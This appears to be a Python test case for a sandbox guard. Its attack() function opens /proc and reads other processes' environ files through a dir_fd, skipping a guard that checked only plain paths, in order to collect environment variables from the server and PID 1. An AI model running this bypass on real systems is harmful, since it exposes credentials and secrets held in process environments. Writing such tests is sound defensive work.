"""/proc/PID/environ of the server read through a dir_fd (the old guard checked only plain paths)."""

import os

from _bait import victims


def read_at(directory, name):
    fd = os.open(name, os.O_RDONLY, dir_fd=directory)
    try:
        return os.read(fd, 1 << 16).decode(errors="replace")
    finally:
        os.close(fd)


def attack():
    """Read the server's environment through /proc.

    >>> attack()
    'report'
    """
    proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
    found = []
    for pid in [*victims(), 1]:
        try:
            found.append(f"{pid}: {read_at(proc, f'{pid}/environ')}")
        except OSError as exc:
            found.append(f"{pid}: {type(exc).__name__}")
    return "; ".join(found)
